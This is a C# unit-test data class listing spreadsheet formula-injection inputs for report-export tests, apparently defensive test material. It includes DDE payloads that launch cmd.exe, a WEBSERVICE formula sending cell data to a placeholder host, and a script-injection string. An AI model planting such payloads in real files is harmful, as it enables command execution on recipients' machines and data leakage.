namespace MediationConsole.Tests.Reports;

/// <summary>Texts with which people try to make a spreadsheet calculate, call or break.</summary>
internal static class Payloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "=1+1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.org\",\"click\")", "=WEBSERVICE(\"http://example.org/\"&A1)",
        "=IMPORTXML(\"http://example.org\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1;2", "==1+1", "=",
        "+1+1", "+cmd|'/C notepad'!A1", "+49 30 123456", "++1", "+",
        "-1+1", "-2+3+cmd|'/C calc'!A0", "--1", "-", "-=1",
        "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "@", "@=1+1", "\t=1+1",
        "\t@SUM(1)", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1",
        "'=1+1", "''", "'", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\"=1+1\"",
        "00012345678901234567", "2026-01-02", "1E5", "TRUE", "#REF!", "<script>alert(1)</script>", "&amp;lt;", "_x0041_",
    ];
}
